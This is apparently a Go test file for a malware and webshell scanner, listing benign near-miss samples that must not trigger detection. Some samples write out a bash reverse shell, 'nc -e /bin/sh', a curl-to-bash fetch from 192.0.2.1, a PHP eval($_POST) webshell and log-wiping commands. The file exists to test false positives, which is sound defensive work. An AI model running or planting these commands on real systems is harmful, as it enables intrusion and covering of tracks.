package starter

import (
	"strings"
	"testing"
)

// nearMisses are files of honest people that come close to a rule: nothing may
// be found in them. Like the samples they are made up.
var nearMisses = map[string]sample{
	"php console of a development server": {php, "// «a long development server *160»\nev¦al(file_get_¦contents(\"php:/¦/input\"));"},
	"php template cache": {php, `$code = file_get_contents($cacheDir . '/' . md5($name) . '.php');
ev¦al('?>' . $code);
echo $twig->render($_GE¦T['page'] ?? 'home');`},
	"php that escapes its argument": {php, `$command = $_PO¦ST['command'];
$out = shell_exec('ping -c 1 ' . escapeshell¦arg($command));`},
	"php with request names in comments": {php, "/* filters the value of `$_RE¦QUEST['action']` before use */\n$a = sanitize($_RE¦QUEST['action']);"},
	"php callback on a whitelist": {php, `if (in_array($_GE¦T['f'], $allowed, true)) { call_user_¦func([$this, $_GE¦T['f']]); }
$clean = array_map('trim', $_PO¦ST);`},
	"php upload with checks": {php, `if (!in_array($ext, ['png', 'jpg'])) { exit; }
move_uploaded_¦file($_FILES['f']['tmp_¦name'], $dir . '/' . basename($_FILES['f']['name'])); // multipart/form-data`},
	"php mail form": {php, `$password = $_PO¦ST['password']; $ip = $_SER¦VER['REMOTE_ADDR'];
error_log("login from $ip"); mail($to, 'Welcome', $body); header('Location: /');`},
	"markdown about webshells":         {raw, "# Webshells\n\nA one-line shell looks like this:\n\n```php\n<?p¦hp @ev¦al($_PO¦ST['x']); ?>\n```\n\nDo not run it.\n"},
	"markdown that installs":           {raw, "# Install\n\n    curl -fsSL https://get.example.com/install.sh | sh\n    curl ¦http://192.0.2.1/x.sh ¦| bash\n"},
	"markdown about reverse shells":    {raw, "# Cheat sheet\n\n    ba¦sh -i >& /de¦v/tcp/192.0.2.1/4444 0>&1\n    nc -e /bin/sh 192.0.2.1 1\n"},
	"xml with php inside a later line": {raw, "rule x { strings: $a = \"<?p¦hp ev¦al($_PO¦ST\" condition: $a }\n"},
	"jsp with a parameter":             {raw, `<¦%@ page import="java.util.*" %><¦% String n = request.get¦Parameter("name"); out.print(escape(n)); %>`},
	"jsp that runs a fixed program":    {raw, `<¦% Process p = Runtime.getRun¦time().ex¦ec("uptime"); %>`},
	"aspx that writes a log":           {raw, `<¦%@ Page Language="C#" %><¦% File.AppendAllText(logFile, DateTime.Now + " " + Request.UserHostAddress); %>`},
	"flask with a fixed program": {py, `@app.route("/")
def up(): return subprocess.check_¦output(["uptime"]) + request.¦args.get("q", "").encode()`},
	"installer script of a vendor": {sh, `set -e
if command -v curl >/dev/null; then curl -fsSL https://get.example.com/key.gpg -o /tmp/key.gpg; fi
chmod +x /usr/local/bin/example; systemctl enable example`},
	"local health check through a pipe": {sh, `curl -s ¦http://127.0.0.1:8080/setup.sh ¦| sh`},
	"postinst with a crontab": {sh, `# postinst of a Debian package
if [ "$1" = configure ]; then
  echo "17 * * * * root test -x /usr/sbin/example && /usr/sbin/example --rotate" > /etc/cron.d/example
  update-rc.d example defaults
fi`},
	"crontab with a monitor":    {raw, "# /etc/cron.d/monitor\n*/5 * * * * root curl -fsS https://hc.example.com/ping/abc >/dev/null 2>&1\n@daily root /usr/local/bin/backup >/dev/null\n"},
	"systemd unit":              {raw, "[Unit]\nDescription=Example\n[Service]\nExecStart=/usr/bin/example --serve\nRestart=always\nPrivateTmp=yes\n[Install]\nWantedBy=multi-user.target\n"},
	"desktop entry":             {raw, "[Desktop Entry]\nType=Application\nName=Example\nExec=/usr/bin/example %U\n"},
	"ld.so.preload of jemalloc": {raw, "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n"},
	"udev rule":                 {raw, `ACTION=="add", SUBSYSTEM=="net", RUN+="/lib/udev/ifupdown-hotplug"` + "\n"},
	"pam with a script":         {raw, "auth required pam_unix.so\nsession optional pam_¦exec.so /usr/local/sbin/login-mail\n"},
	"cloud image clean-up": {sh, `rm -f /etc/machine-id; > /var/log/w¦tmp; > /var/log/last¦log; > /var/log/auth.¦log
unset HIST¦FILE; history -c`},
	"ssh key for a new user": {sh, `mkdir -p ~/.ssh; echo "ssh-ed25519 AAAA«QUJD*12» admin@example" >> ~/.ssh/authorized_¦keys; chmod 600 ~/.ssh/authorized_¦keys`},
	"base64 certificate":     {sh, `echo «QUJD*30» | base64 -d > /etc/ssl/certs/example.pem`},
	"python with embedded data": {py, `ICON = base64.b64¦decode("«QUJD*40»")
exec(open("settings.py").read())`},
	"python socket server":                   {py, `s.conn¦ect(("db.example", 5432)); os.dup2(log.fileno(), 1); subprocess.call(["/usr/bin/backup"])`},
	"miner documentation":                    {raw, "# Mining\n\nUse `--donate-level 1 -o pool.support¦xmr.com:3333 -u WALLET`, see config.json.\n"},
	"json settings":                          {raw, `{"url": "https://api.example.com", "user": "somebody", "pass": "x", "pools": []}`},
	"program that speaks IRC":                {elf, "NICK %s\nUSER %s 0 * :%s\nPRIVMSG %s :%s\nJOIN %s"},
	"busybox":                                {elf, "/bin/busy¦box\n/dev/watch¦dog\n/proc/net/t¦cp\n%s: applet not fo¦und\nwget\ntftp"},
	"libkeyutils itself":                     {elfLib, "keyctl_instan¦tiate_iov\nkeyutils_ver¦sion_string\nfopen\nfgets\nsscanf"},
	"pam_unix itself":                        {elfLib, "pam_sm_¦authenticate\npam_get_¦authtok\nfopen\nstrcmp\n/etc/passwd\nuser %s"},
	"kernel module":                          {elfModule, "vermagic=6.1\nregister_kprobe\niterate_dir\nGPL"},
	"powershell update script":               {raw, `$c = New-Object Net.Web¦Client; $c.DownloadFile("https://example.com/setup.msi", $f); Start-Process msiexec -ArgumentList "/i $f"`},
	"powershell profile of an administrator": {raw, `Set-ExecutionPolicy RemoteSigned -Scope CurrentUser; Get-MpPreference | Select Exclusion*`},
	"batch that builds":                      {raw, "@echo off\nset OUT=build\nfor %%f in (*.c) do cl /c %%f\ncertutil -hashfile x.exe SHA256\n"},
	"licence of an own server":               {raw, "@echo off\ncscript slmgr.vbs /skms kms.corp.example.com\ncscript slmgr.vbs /ato\n"},
	"support note about ransomware":          {raw, "If your files were encrypted, do not pay. Report it to the police, keep the disk,\nand look for a decryption tool from a trusted vendor.\n"},
	"log rotation of a database":             {raw, "All your data is back¦ed up daily. You must pay your invoice within 30 days.\n"},
	"mail with a picture":                    {raw, "From: a@a.example\nContent-Type: image/png; name=\"logo.png\"\n\niVBORw0KGgo=\n"},
	"mail that speaks of names":              {raw, "From: a@a.example\nSubject: file names\n\nDo not open report.pdf.exe when you see it.\n"},
	"page with a download button":            {raw, `<html><script>var b = new Bl¦ob([text]); a.href = URL.createObject¦URL(b); a.down¦load = "table.csv"; a.cli¦ck();</script></html>`},
	"picture with a script":                  {raw, `<svg xmlns="http://www.w3.org/2000/svg"><script>document.getElementById("a").onclick = f;</script></svg>`},
	"internet shortcut":                      {raw, "[InternetShort¦cut]\nURL=https://example.com/\n"},
	"document with a template on disk":       {raw, `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://x/styles" Target="styles.xml"/></Relationships>`},
	"pdf with an attachment":                 {raw, "%PDF-1.4 /OpenAction [1 0 R /Fit] /EmbeddedFile /F (table.xlsx)"},
	"script of a form that saves a table":    {raw, `this.exportData¦Object({ cName: "table.xlsx", nLau¦nch: 0 }); app.alert("saved");`},
	"note about scripts of forms":            {raw, "To open the file as well, write this.exportData¦Object({ cName: \"a.doc\", nLau¦nch: 2 });\n"},
	"rtf with a picture":                     {raw, `{\rtf1{\pict\pngblip 89504e470d0a1a0a}}`},
	"static program without sections":        {elfTwoRX, "«hello world *64»"},
	"upx program of a vendor":                {elfTwoRX, "UPX!\n$Info: This file is packed with the UPX¦ executable packer\nUPX!"},
	"suricata rule":                          {raw, "alert http any any -> any any (msg:\"webshell\"; content:\"<?p¦hp ev¦al($_PO¦ST\"; sid:1000001;)\n"},
}

func TestNearMisses(t *testing.T) {
	s := scanner(t, false)
	for name, miss := range nearMisses {
		if names := found(t, s, miss.build()); len(names) > 0 {
			t.Errorf("%s is found by %s", name, strings.Join(names, ", "))
		}
	}
}
